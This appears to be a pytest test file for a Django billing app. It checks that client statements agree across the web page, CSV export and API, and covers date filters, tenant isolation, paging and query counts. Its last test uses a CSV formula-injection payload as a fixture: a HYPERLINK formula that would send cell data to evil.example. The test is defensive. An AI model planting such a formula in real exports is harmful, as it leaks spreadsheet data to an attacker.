"""The statement's lines in the client area, its CSV and the API: the same sentence and balance
after each row, the same date filter, clear refusals of bad dates, another client's rows never
shown, and a page that costs the same number of queries whatever it holds.

Given client A with a staff credit, a VPS charged on opening and renewed by the billing run, and
client B with rows of their own, when A reads the statement, then every interface shows the
same lines in date order with the balance after each.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.db import connection
from django.test import Client as WebClient
from django.test.utils import CaptureQueriesContext

from billow.core.i18n import period_text
from billow.ledger.actions import adjust_client_balance
from billow.ledger.models import AccountKind, LedgerEntry
from billow.ledger.selectors import get_or_create_account
from tests.api.conftest import Tenant

pytestmark = pytest.mark.django_db

CSV_COLUMNS = [
    "date",
    "kind",
    "description",
    "amount",
    "currency",
    "balance",
    "entry_id",
    "transaction_id",
]


def period(start: date, end: date | None) -> str:
    assert end is not None
    return period_text(start, end)


def _web(tenant: Tenant) -> WebClient:
    web = WebClient()
    web.force_login(tenant.owner.user)
    return web


def _renewed(tenant: Tenant) -> date:
    """The run renews A's service once; returns the day it ran."""
    day = tenant.service.paid_until
    assert day is not None
    tenant.world.bill(day)
    return day


def _credits(tenant: Tenant, n: int) -> None:
    wallet = tenant.world.wallet(tenant.client)
    for i in range(n):
        adjust_client_balance(
            account=wallet, amount_minor=100 + i, direction="credit", reason=f"c{i}", nonce=f"x{i}"
        )


def _web_lines(tenant: Tenant, query: str = "") -> list[tuple[str, int]]:
    response = _web(tenant).get(f"/billing/{query}")
    return [(line.description, line.balance_minor) for line in response.context["lines"]]


def _csv(tenant: Tenant, query: str = "") -> list[dict[str, str]]:
    response = _web(tenant).get(f"/billing/statement.csv{query}")
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def _api(tenant: Tenant, query: str = "") -> Any:
    return tenant.api().get(f"/api/v1/statement/{query}")


def test_web_csv_and_api_show_the_same_lines(tenant_a: Tenant, tenant_b: Tenant) -> None:
    svc = tenant_a.service
    opened, ran = svc.opened_at.date(), _renewed(tenant_a)
    renewed_to = tenant_a.world.refresh(svc).paid_until

    api_rows = _api(tenant_a).json()["results"]
    expected = [(r["description"], r["balance"]["amount_minor"]) for r in api_rows]

    # opened five days ago, credited today (the world's top-up), renewed by the run
    assert [r["description"] for r in api_rows] == [
        f"First period of A vm #{svc.pk}, {period(opened, ran)}",
        "Balance adjustment: top-up",
        f"Renewal of A vm #{svc.pk}, {period(ran, renewed_to)}",
    ]
    assert [r["balance"]["amount_minor"] for r in api_rows] == [-1_000, 49_000, 48_000]
    assert api_rows[2]["balance"] == {
        "amount_minor": 48_000,
        "currency": "USD",
        "formatted": "480.00",
    }
    assert _web_lines(tenant_a) == expected
    assert [(r["description"], int(r["balance"].replace(".", ""))) for r in _csv(tenant_a)] == (
        expected
    )


def test_the_date_filter_is_the_same_everywhere(tenant_a: Tenant, tenant_b: Tenant) -> None:
    ran = _renewed(tenant_a)
    query = f"?date_from={ran.isoformat()}&date_to={ran.isoformat()}"

    api_rows = _api(tenant_a, query).json()["results"]

    assert [(r["kind"], r["balance"]["amount_minor"]) for r in api_rows] == [("charge", 48_000)]
    assert _web_lines(tenant_a, query) == [(api_rows[0]["description"], 48_000)]
    assert [r["balance"] for r in _csv(tenant_a, query)] == ["480.00"]


def test_the_csv_columns(tenant_a: Tenant) -> None:
    rows = _csv(tenant_a)[1:]  # after the opening charge, dated five days ago
    entry = LedgerEntry.objects.filter(
        account__client=tenant_a.client, transaction__kind="adjustment"
    ).get()

    assert list(rows[0]) == CSV_COLUMNS
    assert rows[0] == {
        "date": entry.transaction.created_at.date().isoformat(),
        "kind": "adjustment",
        "description": "Balance adjustment: top-up",
        "amount": "500.00",
        "currency": "USD",
        "balance": "490.00",
        "entry_id": str(entry.pk),
        "transaction_id": str(entry.transaction_id),
    }


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("?date_from=2027-13-01", "date_from"),
        ("?date_to=yesterday", "date_to"),
        ("?date_from=2027-03-08&date_to=2027-03-07", "date_to"),
    ],
)
def test_bad_dates_are_refused_clearly(tenant_a: Tenant, query: str, field: str) -> None:
    api = _api(tenant_a, query)
    page = _web(tenant_a).get(f"/billing/{query}")
    export = _web(tenant_a).get(f"/billing/statement.csv{query}")

    assert (api.status_code, api.json()["code"]) == (400, "validation_error")
    assert list(api.json()["details"]["fields"]) == [field]
    assert page.status_code == 400 and page.context["filters"].errors[field]
    assert 'role="alert"' in page.content.decode()
    assert export.status_code == 400 and field in export.content.decode()


def test_client_b_never_sees_client_a_rows(tenant_a: Tenant, tenant_b: Tenant) -> None:
    _renewed(tenant_a)
    mine = set(
        LedgerEntry.objects.filter(account__client=tenant_b.client).values_list("id", flat=True)
    )

    api_ids = {r["id"] for r in _api(tenant_b, "?page_size=200").json()["results"]}
    web_ids = {line.id for line in _web(tenant_b).get("/billing/").context["lines"]}
    csv_ids = {int(r["entry_id"]) for r in _csv(tenant_b)}

    assert api_ids == web_ids == csv_ids == mine and len(mine) == 3  # credit, opening, renewal


def test_the_page_opens_on_the_latest_rows(tenant_a: Tenant) -> None:
    _credits(tenant_a, 60)  # 62 rows: pages of 50

    response = _web(tenant_a).get("/billing/")
    page, lines = response.context["page"], response.context["lines"]
    first = _web(tenant_a).get("/billing/?page=1").context["lines"]

    assert (page.number, len(lines)) == (2, 12)
    assert lines[-1].balance_minor == tenant_a.world.balance(tenant_a.client)
    assert first[-1].balance_minor + lines[0].amount_minor == lines[0].balance_minor
    assert "page=1" in response.content.decode()


def _api_queries(tenant: Tenant) -> int:
    api = tenant.api()
    with CaptureQueriesContext(connection) as ctx:
        response = api.get("/api/v1/statement/?page_size=50")
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_a_page_costs_the_same_queries_whatever_it_holds(tenant_a: Tenant) -> None:
    few = _api_queries(tenant_a)  # a credit and a charge
    _credits(tenant_a, 30)
    euros = get_or_create_account(
        kind=AccountKind.CLIENT_BALANCE,
        currency="EUR",
        client=tenant_a.client,
        provider=tenant_a.world.provider,
    )
    adjust_client_balance(account=euros, amount_minor=5, direction="credit", reason="e", nonce="e")
    _renewed(tenant_a)

    many = _api_queries(tenant_a)  # 35 rows of the same kinds

    assert many == few
    assert few <= 7  # token read + touch, throttle, count, page, 2 for the expenses


def test_no_csv_cell_starts_a_formula(tenant_a: Tenant) -> None:
    # given a staff credit whose reason is a spreadsheet formula, and a posting of an app's own
    # kind (free text) that looks like one
    from billow.ledger.actions import post_transaction

    wallet = tenant_a.world.wallet(tenant_a.client)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
    adjust_client_balance(
        account=wallet, amount_minor=5, direction="credit", reason=formula, nonce="f1"
    )
    house = get_or_create_account(kind=AccountKind.ADJUSTMENTS, currency="USD")
    post_transaction(
        kind="@SUM(1+1)", legs=[(wallet, 7), (house, -7)], idempotency_key="f2", memo=formula
    )
    # when the client exports the statement
    rows = _csv(tenant_a)
    # then no cell starts a formula (negative amounts stay numbers), and the text is all there
    cells = [value for row in rows for value in row.values()]
    formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [c for c in formulas if not c.lstrip("-").replace(".", "").isdigit()] == []
    assert (rows[-1]["kind"], rows[-1]["amount"]) == ("'@SUM(1+1)", "0.07")
    assert rows[-1]["description"] == "'@SUM(1+1): " + formula
